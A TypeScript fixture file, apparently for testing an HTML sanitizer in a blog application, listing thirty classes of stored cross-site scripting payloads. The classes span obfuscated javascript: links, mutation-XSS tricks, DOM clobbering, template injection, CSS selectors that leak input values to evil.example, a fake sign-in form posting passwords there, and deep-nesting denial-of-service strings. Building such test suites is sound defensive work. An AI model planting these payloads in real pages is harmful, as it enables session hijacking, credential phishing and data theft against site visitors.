const hit = 'hit()';
const svg = '<svg xmlns="http://www.w3.org/2000/svg"';

/** Each class of what has been stored to attack readers, by its number; those without one in the list of classes are of our own. */
export const payloadClasses: Record<string, { what: string; html: string[] }> = {
  X1: {
    what: 'script elements',
    html: [
      `<script>${hit}</script>`,
      `<ScRiPt >${hit}</sCrIpT>`,
      '<script src="//evil.example/x.js"></script>',
      `<scr<script>ipt>${hit}</scr</script>ipt>`,
      `<script>${hit}`,
    ],
  },
  X2: {
    what: 'handlers on allowed elements',
    html: [
      `<img src=x onerror=${hit}>`,
      `<p onclick=${hit} onmouseover=${hit}>x</p>`,
      `<td onfocus=${hit} tabindex=0 autofocus>x</td>`,
      `<details open ontoggle=${hit}>x</details>`,
    ],
  },
  X3: { what: 'scripts as links', html: [`<a class="bait" href="javascript:${hit}">bait</a>`] },
  X4: {
    what: 'schemes in disguise',
    html: [
      `<a href="java\tscript:${hit}">bait</a>`,
      `<a href="java&#10;script:${hit}">bait</a>`,
      `<a href="java&Tab;script&colon;${hit}">bait</a>`,
      `<a href=" &#14; JaVaScRiPt:${hit}">bait</a>`,
      `<a href="&#0000106&#0000097&#0000118avascript:${hit}">bait</a>`,
    ],
  },
  X5: {
    what: 'data and old script languages as links',
    html: [
      `<a href="data:text/html,<script>${hit}</script>">bait</a>`,
      '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">bait</a>',
      '<a href="vbscript:msgbox(1)">bait</a>',
    ],
  },
  X6: {
    what: 'drawings that run',
    html: [
      `${svg} onload=${hit}></svg>`,
      `${svg}><script>${hit}</script></svg>`,
      `${svg}><animate onbegin=${hit} attributeName=x dur=1s></svg>`,
      `${svg}><foreignObject><img src=x onerror=${hit}></foreignObject></svg>`,
    ],
  },
  X7: {
    what: 'names that hide others',
    html: [
      '<img name=getElementById><form id=document><input name=attributes></form>',
      '<a id=location href="https://a.example">x</a><p id="root" name="cookie">x</p>',
      '<form id=attackSigns><input name=push></form>',
    ],
  },
  X8: {
    what: 'formulas that change the language',
    html: [
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit}>`,
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${hit}></style></annotation-xml></math>`,
      `<math href="javascript:${hit}">x</math>`,
    ],
  },
  X9: {
    what: 'elements of raw text that hold a tag',
    html: ['noscript', 'textarea', 'title', 'style', 'xmp', 'noembed', 'noframes', 'iframe'].map(
      name => `<${name}><p title="</${name}><img src=x onerror=${hit}>"></${name}>`,
    ),
  },
  X10: {
    what: 'tables and lists that throw out what they hold',
    html: [
      `<table><img src=x onerror=${hit}><a href=javascript:${hit}><table><td>x</table>`,
      `<select><style></select><img src=x onerror=${hit}></style></select>`,
      `<a href="https://a.example"><ul><li><a href="javascript:${hit}">x</a></ul></a>`,
    ],
  },
  X11: {
    what: 'entities read twice',
    html: [
      `&lt;img src=x onerror=${hit}&gt;`,
      `&amp;lt;script&amp;gt;${hit}&amp;lt;/script&amp;gt;`,
      `<p title="&lt;img src=x onerror=${hit}&gt;">x</p>`,
    ],
  },
  X12: {
    what: 'zeros, halves of letters and odd spaces',
    html: [
      `<scr\u0000ipt>${hit}</scr\u0000ipt>`,
      `<img\fsrc=x\fonerror=${hit}>`,
      `<p>\ud800<script\udfff>${hit}</p>`,
      `\uff1cscript\uff1e${hit}\uff1c/script\uff1e`,
    ],
  },
  X13: {
    what: 'comments and sections',
    html: [
      `<!--><img src=x onerror=${hit}>-->`,
      `<!-- a --!><img src=x onerror=${hit}>`,
      `<!--[if gte IE 4]><script>${hit}</script><![endif]-->`,
      `<![CDATA[<img src=x onerror=${hit}>]]>`,
      `<?xml version="1.0"?><img src=x onerror=${hit}>`,
    ],
  },
  X14: {
    what: 'templates and shadows',
    html: [
      `<template><img src=x onerror=${hit}></template>`,
      `<div><template shadowrootmode=open><img src=x onerror=${hit}></template></div>`,
    ],
  },
  X15: {
    what: 'frames',
    html: [
      `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
      `<iframe src="javascript:parent.${hit}"></iframe>`,
      '<iframe src="https://evil.example"></iframe>',
    ],
  },
  X16: {
    what: 'things that are embedded',
    html: [
      `<object data="javascript:${hit}"></object>`,
      `<embed src="javascript:${hit}">`,
      '<object data="https://evil.example/x.swf"></object><applet code=x>',
    ],
  },
  X17: { what: 'another base', html: ['<base href="https://evil.example/"><a href="x">y</a>'] },
  X18: {
    what: 'pages that move on, and other policies',
    html: [
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
      `<meta http-equiv=refresh content="0;url=javascript:${hit}">`,
      '<meta http-equiv=content-security-policy content="script-src *">',
    ],
  },
  X19: {
    what: 'style sheets',
    html: [
      '<link rel="stylesheet" href="https://evil.example/a.css">',
      '<style>@import "https://evil.example/a.css";</style>',
      '<link rel=preload as=script href=https://evil.example/x.js>',
    ],
  },
  X20: {
    what: 'styles that call, cover or leak',
    html: [
      '<p style="background:url(https://evil.example/a.png)">x</p>',
      '<p style="position:fixed;inset:0;z-index:9999"><a href="https://evil.example">Sign in</a></p>',
      '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
      '<p class="dialog modal overlay" data-scroll-lock>x</p>',
    ],
  },
  X21: {
    what: 'forms that ask for passwords',
    html: [
      '<form action=https://evil.example><input type=password name=p><button>Sign in</button></form>',
      `<button formaction="javascript:${hit}">b</button>`,
      `<input type=image src=x onerror=${hit}><input autofocus onfocus=${hit}>`,
    ],
  },
  X22: {
    what: 'media that fails to load',
    html: [
      `<video><source onerror=${hit}></video>`,
      `<audio src=x onerror=${hit}>`,
      `<video poster="javascript:${hit}" src=x onloadstart=${hit}></video>`,
      `<marquee onstart=${hit}>x</marquee>`,
    ],
  },
  X23: {
    what: 'ways out of an attribute',
    html: [
      `<a href="https://a.example/&quot; onclick=&quot;${hit}">bait</a>`,
      `<a href='https://a.example/" onclick="${hit}'>bait</a>`,
      `<img src=\`x\`onerror=${hit}>`,
      `<p/onclick/="x"onclick=${hit} <b>x</p>`,
      `<img/src=x/onerror=${hit}>`,
    ],
  },
  X24: {
    what: 'attributes that are there twice',
    html: [
      `<a href="https://a.example" href="javascript:${hit}">x</a>`,
      `<a HREF=javascript:${hit} href=https://a.example>y</a>`,
      `<img src="/x.png" SRC=x onerror=${hit}>`,
    ],
  },
  X25: {
    what: 'words of templates',
    html: [
      `{{constructor.constructor("${hit}")()}}`,
      // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text that is tried
      '${hit()} <%= hit() %> #{hit()} [[hit()]]',
      `<p>'-${hit}-' "-${hit}-"</p>`,
    ],
  },
  X26: {
    what: 'other attributes with addresses',
    html: [
      '<img srcset="https://evil.example/t.gif 1x">',
      '<picture><source srcset="https://evil.example/x.png"><img src=https://evil.example/y.png></picture>',
      '<table background="https://evil.example/x"><td background="https://evil.example/x">y</td></table>',
      '<a href="https://a.example" ping="https://evil.example">x</a>',
      `${svg}><a xlink:href="javascript:${hit}"><text y=9>x</text></a></svg>`,
      '<img lowsrc=https://evil.example/a dynsrc=https://evil.example/b>',
    ],
  },
  X27: {
    what: 'pictures of other sites and of scripts',
    html: [
      '<img src="https://evil.example/spy.png">',
      '<img src="//evil.example/spy.png">',
      `<img src="data:image/svg+xml,<svg onload=${hit}>">`,
      '<img src="/api/v1/blogs/images/../../../evil">',
      '<img src="/\\evil.example/spy.png">',
    ],
  },
  X28: {
    what: 'elements of one’s own',
    html: [
      `<x-y onclick=${hit} tabindex=1 autofocus onfocus=${hit}>x</x-y>`,
      '<p is="x-y" slot="y" part="w">x</p>',
      `<slot name=x onslotchange=${hit}></slot>`,
    ],
  },
  X29: {
    what: 'trees that are deep and never ended',
    html: [
      `${'<blockquote><b>'.repeat(400)}<img src=x onerror=${hit}>${'</b></blockquote>'.repeat(400)}`,
      `${'<div>'.repeat(600)}<script>${hit}</script>`,
      `a<plaintext><img src=x onerror=${hit}>`,
    ],
  },
  X30: {
    what: 'a hundred thousand elements',
    html: ['<b>x</b>'.repeat(20_000)],
  },
};
